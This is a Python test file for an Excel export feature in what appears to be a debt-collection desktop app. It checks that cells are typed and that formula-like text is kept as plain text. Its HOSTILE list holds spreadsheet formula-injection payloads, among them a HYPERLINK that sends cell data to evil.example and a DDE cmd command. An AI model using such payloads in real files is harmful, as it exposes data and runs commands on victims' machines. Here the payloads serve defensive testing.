"""What a lead's Excel export holds: text that stays text whatever a lender's file put in a
name (no live formulas), and typed cells (numbers, money in its currency's format, dates)
under a frozen header with filters."""

from __future__ import annotations

from datetime import UTC, date, datetime
from pathlib import Path

import openpyxl

from agentdesk.desktop.xlsx_export import Column, write_table
from agentdesk.domain.money import Money

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', "+86 139 0000 0000", "-2+3", "@SUM(1,2)",
           "\t=1+1", "=cmd|' /C calc'!A0"]


def test_text_that_looks_like_a_formula_is_exported_as_text(tmp_path: Path) -> None:
    path = tmp_path / "cases.xlsx"
    assert write_table(path, "Team cases", ["Debtor"], [[text] for text in HOSTILE]) == len(HOSTILE)
    sheet = openpyxl.load_workbook(path).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells] == HOSTILE
    assert all(c.data_type == "s" for c in cells)  # a string cell, never "f" (formula)
    assert all(c.quotePrefix for c in cells)  # Excel keeps it text when the cell is edited
    raw = (tmp_path / "cases.xlsx").read_bytes()
    assert b"<f>" not in raw


def test_cells_are_typed_with_a_frozen_filtered_header(tmp_path: Path) -> None:
    path = tmp_path / "typed.xlsx"
    columns = [Column("Case ID"), Column("Overdue", "money"), Column("Days past due", "integer"),
               Column("Promise due", "date"), Column("Last attempt", "datetime"), Column("Paid", "money")]
    rows = [["c-1", Money(123456, "CNY"), 45, "2026-12-01", "2026-11-30T02:15:00+00:00", Money(99, "USD")],
            ["c-2", Money(5, "CNY"), 0, None, None, None]]
    write_table(path, "Cases", columns, rows)
    sheet = openpyxl.load_workbook(path).active
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:F3"
    assert sheet["A1"].font.b
    assert sheet["B2"].value == 1234.56 and sheet["B2"].number_format == '"¥"#,##0.00'
    assert sheet["F2"].value == 0.99 and sheet["F2"].number_format == '"$"#,##0.00'
    assert sheet["C2"].value == 45 and sheet["C2"].data_type == "n"
    assert sheet["D2"].value == datetime(2026, 12, 1) and sheet["D2"].number_format == "yyyy-mm-dd"
    attempt = datetime(2026, 11, 30, 2, 15, tzinfo=UTC).astimezone().replace(tzinfo=None)
    assert sheet["E2"].value == attempt and sheet["E2"].is_date
    assert sheet["D3"].value is None and sheet["C3"].value == 0
    assert date(2026, 12, 1) == sheet["D2"].value.date()
